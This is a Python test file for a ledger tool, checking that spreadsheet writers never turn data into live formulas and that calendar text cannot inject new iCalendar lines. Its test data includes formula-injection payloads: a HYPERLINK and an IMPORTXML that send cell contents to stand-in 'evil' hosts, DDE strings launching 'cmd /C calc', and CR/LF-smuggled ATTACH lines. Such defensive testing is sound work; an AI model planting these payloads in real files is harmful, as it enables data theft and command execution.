"""Nothing custledger writes carries a formula made from data (issue 11, item 2).

A property test over every writer: hostile text (OWASP CSV-injection prefixes = + - @, tab- and
CR-led variants, full-width ＝, DDE payloads, HYPERLINK) in every text field of a small ledger,
its Settings and its bank file; then the whole close (with the bank import appending receipts,
letters, statements), the customer card, reminders with an iCalendar file, and a masked export.
Every cell of every xlsx written (the ledger, statements, letters, the export) is checked: none
holds a formula except the ones custledger writes itself, listed in ALLOWED_FORMULAS; the
values the xlwings route would type into Excel are checked too (only its own links, XL_LINK).
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from custledger import ops
from custledger.io.filebook import FileBook
from custledger.io.template import build_ledger
from custledger.io.xlbook import out_rows
from custledger.ops.export import export_ledger

# custledger's own cell formulas: none. Its links are hyperlink relationships (write_url), its
# marks a conditional format (a cfRule, not a cell), a restyled template's own formulas are the
# user's (render/template_fill.py keeps them; the shipped templates have none).
ALLOWED_FORMULAS: frozenset = frozenset()

PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "\t", "\r", "=-", "@@"]
PAYLOADS = ['HYPERLINK("http://evil.example/?x="&A1,"点此付款")', "cmd|' /C calc'!A0", "1+1", "SUM(1,2)",
            'IMPORTXML(CONCAT("http://evil/?", A1),"//a")', "A1*2", "2+3", "DDE(\"cmd\";\"/C calc\";\"x\")"]

# at most 48 characters: a longer owner or name is a validation error that keeps the customer
# out of the run (its card, statement and letter would not be written to be checked)
hostile = st.builds(lambda p, b, tail: (p + b + tail)[:48], st.sampled_from(PREFIXES), st.sampled_from(PAYLOADS),
                    st.text(alphabet="甲乙,;\"' <>&", max_size=4))

# The only formulas the xlwings route writes: its own links (to a cell, "#Sheet!A1", or to a
# statement or letter file), both arguments quoted string literals with their quotes doubled
# (io/xlbook._link_formula): text from data inside them is never evaluated.
XL_LINK = re.compile(r'=HYPERLINK\("(?:[^"]|"")*","(?:[^"]|"")*"\)', re.S)


class CapturingBook(FileBook):
    """The file adapter, keeping the generated sheets it was given (to feed the xlwings writer)."""

    outs: list = []

    def write(self, outs, *args, **kwargs):
        self.outs = list(outs)
        return super().write(outs, *args, **kwargs)


CELL = re.compile(rb"<(?:\w+:)?c\b([^>]*?)(?:/>|>(.*?)</(?:\w+:)?c>)", re.S)
FORMULA = re.compile(rb"<(?:\w+:)?f\b[^>]*?(?:/>|>(.*?)</(?:\w+:)?f>)", re.S)


def cell_formulas(path: Path) -> list[tuple[str, str]]:
    """(part, formula text) of every cell formula in every worksheet of the workbook."""
    out = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if not (name.startswith("xl/worksheets/") and name.endswith(".xml")):
                continue
            data = zf.read(name)
            for m in CELL.finditer(data):
                inner = m.group(2) or b""
                f = FORMULA.search(inner)
                if f is not None or b't="str"' in m.group(1):
                    out.append((name, (f.group(1) or b"").decode("utf-8", "replace") if f else ""))
    return out


def texts_of(path: Path) -> str:
    """All text of a workbook (shared and inline strings), unescaped enough to find a value."""
    with zipfile.ZipFile(path) as zf:
        raw = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".xml"))
    return raw.decode("utf-8", "replace").replace("&amp;", "&").replace("&quot;", '"').replace("&lt;", "<") \
        .replace("&gt;", ">").replace("&apos;", "'")


def hostile_ledger(path: Path, t: list[str]) -> Path:
    customers = pd.DataFrame({
        "customer_id": ["C1", "C2"], "name": [t[0], "乙公司"], "aliases": [t[1], ""], "industry": [t[2], ""],
        "region": [t[3], ""], "size": [t[4], ""], "contact": [t[5], "王五"], "title": [t[6], ""],
        "phone": ["13812345678", "13912345678"], "address": [t[7], ""], "owner": [t[8], ""],
        "birthday": ["1980-11-03", ""], "contract_end": ["2026-11-10", ""], "notes": [t[9], ""]})
    invoices = pd.DataFrame({
        "doc_no": ["I1", "I2", "I3"], "date": ["2026-08-01", "2026-10-05", "2026-10-06"],
        "customer_id": ["C1", "C1", "C2"], "product": [t[10], t[11], "x"], "amount": [1000.0, 500.0, 300.0],
        "due_date": ["2026-08-31", "2026-11-04", "2026-11-05"], "contract_no": [t[12], "", ""],
        "notes": [t[13], "", ""]})
    receipts = pd.DataFrame({
        "receipt_no": ["R1"], "date": ["2026-10-10"], "customer_id": ["C1"], "payer": [t[14]],
        "amount": [200.0], "memo": [t[15]]})
    interactions = pd.DataFrame({
        "date": ["2026-09-01"], "customer_id": ["C1"], "summary": [t[16]], "next_date": ["2026-11-02"],
        "owner": [t[17]]})
    build_ledger(path, "zh", data={"customers": customers, "invoices": invoices, "receipts": receipts,
                                   "interactions": interactions},
                 settings={"as_of": "2026-10-31", "company_name": t[18], "payment_instructions": t[19],
                           "mask_exports": "是"})
    return path


def hostile_bank(path: Path, t: list[str]) -> Path:
    def q(s: str) -> str:
        return '"' + s.replace('"', '""') + '"'
    lines = ["交易日期,对方户名,对方账号,收入金额,摘要,交易流水号",
             f"2026-10-20,{q(t[0])},6222021234561234,100.00,{q(t[20])},B1",
             f"2026-10-21,{q(t[21])},,50.00,{q(t[22])},B2"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@settings(max_examples=4, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(texts=st.lists(hostile, min_size=23, max_size=23))
def test_no_writer_emits_a_formula_made_from_data(tmp_path_factory, texts):
    folder = tmp_path_factory.mktemp("hostile")
    ledger = hostile_ledger(folder / "台账.xlsx", texts)
    bank = hostile_bank(folder / "bank.csv", texts)
    steps = [s for s in ops.STEP_ORDER if s in ops.STEPS]  # the close and the card
    book = CapturingBook(ledger)
    report = ops.run(book, steps, month="2026-10", bank=bank, customer_id="C1", allow_errors=True,
                     ics=folder / "team.ics")
    # the xlwings route (io/xlbook.py) writes the same sheets as Excel input values
    for out in book.outs:
        for row in out_rows(out):
            for v in row:
                if isinstance(v, str) and v[:1] in ("=", "+", "-", "@") or isinstance(v, str) and v[:1].isspace():
                    assert XL_LINK.fullmatch(v), (out.name, v)
    export = export_ledger(ledger, folder / "export.xlsx").path
    written = [ledger, export, *[Path(f) for f in report.files if str(f).endswith(".xlsx")]]
    kinds = {p.parent.name for p in written}
    assert any("statements" in str(p) for p in written) and any("letters" in str(p) for p in written), written
    assert report.summary.get("receipts_imported", 0) >= 1 and kinds
    for path in written:
        bad = [(part, f) for part, f in cell_formulas(path) if f not in ALLOWED_FORMULAS]
        assert bad == [], (path.name, bad[:3])
    # the hostile text is there, as text: the customer's name on its statement and letter
    name = texts[0].replace("\r\n", "\n").replace("\r", "\n")
    statement = next(p for p in written if "statements" in str(p) and "C1" in p.name)
    letter = next(p for p in written if "letters" in str(p) and "C1" in p.name)
    for p in (statement, letter, ledger):
        body = texts_of(p).replace("\r\n", "\n").replace("\r", "\n").replace("_x000D_", "\n")
        assert name.strip() in body, (p.name, name)


def test_a_named_cell_filled_with_formula_text_stays_text(tmp_path):
    """The fault found: template_fill wrote a named cell's value starting with '=' as a formula
    (a customer name "=HYPERLINK(...)" became a live link in the statement)."""
    import openpyxl

    from custledger.render.build_templates import shipped
    from custledger.render.template_fill import fill, read_layout

    layout = read_layout(shipped("statement", "zh"), regions=("lines", "aging"))
    evil = '=HYPERLINK("http://evil.example","付款")'
    out = fill(layout, tmp_path / "s.xlsx", {"customer_name": evil, "company_name": "+1+1"},
               {"lines": [{"memo": "@SUM(1,2)", "doc_no": "-2+3"}]}, {"title": "=1+1"})
    assert cell_formulas(out) == []
    values = {c.value for row in openpyxl.load_workbook(out).active.iter_rows() for c in row}
    assert {evil, "+1+1", "@SUM(1,2)", "-2+3"} <= values


def test_the_formula_scanner_sees_formulas(tmp_path):
    """The check above can fail: a workbook with a real formula is caught."""
    import xlsxwriter

    p = tmp_path / "f.xlsx"
    wb = xlsxwriter.Workbook(str(p))
    wb.add_worksheet().write_formula(0, 0, '=HYPERLINK("http://x","y")')
    wb.close()
    assert cell_formulas(p) == [("xl/worksheets/sheet1.xml", 'HYPERLINK("http://x","y")')]


@pytest.mark.parametrize("text", ["=1+1", "\t=1+1", "\r=1+1", "@SUM(A1)"])
def test_ics_text_cannot_start_a_new_calendar_line(tmp_path, text):
    """The iCalendar file is text, not a sheet: a CR/LF in a name must not start a property."""
    from custledger.io.ics import to_ics

    rem = pd.DataFrame({"date": [pd.Timestamp("2026-11-02")], "kind": ["follow_up"], "customer_id": ["C1"],
                        "name": [text + "\r\nATTACH:http://evil"], "owner": [text + "\nATTACH:x"],
                        "subject": [text], "amount": [pd.NA], "action": [text + "\rATTACH:y"], "days": [2]})
    ics = to_ics(rem, "zh")
    lines = ics.replace("\r\n ", "").split("\r\n")  # unfolded
    assert not any(line.startswith("ATTACH") for line in lines)
    assert any(line.startswith("SUMMARY:") and "ATTACH:http://evil" in line for line in lines)
